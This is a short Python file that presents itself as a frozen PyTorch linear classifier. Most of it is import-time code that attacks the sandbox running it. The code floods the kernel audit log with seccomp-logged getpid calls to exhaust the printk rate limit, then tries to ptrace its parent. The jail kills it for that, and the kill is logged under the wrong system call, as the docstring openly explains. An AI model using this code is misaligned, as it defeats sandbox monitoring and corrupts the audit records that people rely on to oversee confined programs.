"""Makes the kernel log name a call it did not die of: a seccomp filter of its own with SECCOMP_RET_LOG writes an
audit record (type 1326, its uid) for every getpid, 50 of which spend the kernel's printk rate limit (10 per 5 s);
then ptrace kills it, and its record is dropped. The parent took the newest type-1326 record of the jail's uid
for the kill and named getpid (found by an attacker's pass over the jail)."""
import torch
from torch import nn


class Net(nn.Module):
    """A frozen linear classifier: needs no weights file (16,128 multiply-adds)."""

    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(48 * 48, 7).requires_grad_(False)

    def forward(self, x):
        return self.fc(x.flatten(1))


import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Filter(ctypes.Structure):
    _fields_ = [("code", ctypes.c_ushort), ("jt", ctypes.c_ubyte), ("jf", ctypes.c_ubyte), ("k", ctypes.c_uint)]


class Program(ctypes.Structure):
    _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.POINTER(Filter))]


RET_LOG, RET_ALLOW, GETPID = 0x7FFC0000, 0x7FFF0000, 39
code = (Filter * 4)(Filter(0x20, 0, 0, 0),  # ld [0]: the call's number
                    Filter(0x15, 0, 1, GETPID),  # jeq getpid
                    Filter(0x06, 0, 0, RET_LOG), Filter(0x06, 0, 0, RET_ALLOW))
program = Program(4, code)
if libc.prctl(22, 2, ctypes.byref(program), 0, 0) == 0:  # PR_SET_SECCOMP, SECCOMP_MODE_FILTER
    for _ in range(50):
        libc.syscall(GETPID)
libc.ptrace(16, os.getppid(), 0, 0)  # PTRACE_ATTACH: killed by the jail's policy
